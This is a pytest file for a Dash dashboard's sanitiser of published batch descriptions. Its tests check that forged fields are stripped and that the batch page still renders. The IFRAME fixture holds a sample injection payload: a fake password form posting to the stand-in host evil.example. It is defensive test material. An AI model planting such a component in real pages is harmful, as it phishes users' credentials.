"""A published batch description is checked field by field before the batch page renders it:
what a worker (or anyone who can write the item) published can neither inject components nor
break the page."""

from __future__ import annotations

import json
from decimal import Decimal

from dashboard.descriptions import clean_description

from tests.dashboard.conftest import prop
from tests.fixtures.published import fixture_description

# A Dash component as JSON: what a forged `title` held (an Iframe with a fake login form).
IFRAME = {"type": "Iframe", "namespace": "dash_html_components",
          "props": {"srcDoc": "<form action='https://evil.example'>Password: <input></form>"}}


def forged() -> dict:
    good = fixture_description()
    return {**good, "title": IFRAME, "description": ["a", IFRAME], "model_version": 7,
            "input": {**good["input"], "help": IFRAME, "min_rows": "2",
                      "columns": [{"name": IFRAME}, {"name": "x", "help": IFRAME, "required": "yes"}]},
            "params": [{"name": "k", "type": "integer", "label": IFRAME, "min": "2", "max": 9, "default": 3},
                       {"name": IFRAME, "type": "integer"}, "not a param",
                       {"name": "c", "type": "choice", "choices": ["a", IFRAME, 2, True], "default": IFRAME}],
            "samples": [{"name": IFRAME, "csv": "a\n1\n"}, *good.get("samples", [])]}


def test_only_plain_fields_survive():
    clean = clean_description(forged())
    assert clean["title"] == "" and clean["description"] == "" and clean["model_version"] == "7"
    assert clean["input"]["help"] == "" and "min_rows" not in clean["input"]
    assert clean["input"]["columns"] == [{"name": "x", "type": "any", "required": False, "help": ""}]
    k, c = clean["params"]
    assert (k["name"], k["label"], k["min"], k["max"], k["default"]) == ("k", "k", None, 9, 3)
    assert c["choices"] == ["a", 2] and c["default"] is None
    assert all(isinstance(s["name"], str) for s in clean["samples"])
    assert "Iframe" not in json.dumps(clean)


def test_dynamodb_numbers_and_odd_top_levels():
    assert clean_description(None) is None and clean_description(["x"]) is None
    clean = clean_description({"params": [{"name": "n", "type": "number", "min": Decimal("0.5"),
                                           "max": Decimal("2"), "step": Decimal("NaN")}]})
    (n,) = clean["params"]
    assert (n["min"], n["max"], n["step"]) == (0.5, 2, None)


def test_a_forged_description_neither_renders_a_component_nor_breaks_the_page(dash_call, store):
    store.publish_description(forged())
    answer = dash_call("page.children", [prop("url", "pathname", "/jobs")])
    assert answer.status_code == 200, answer.get_data(as_text=True)[:500]
    page = answer.get_data(as_text=True)
    assert "Iframe" not in page and "evil.example" not in page
    assert "Run a batch job" in page  # the title that was not text: the page's own instead
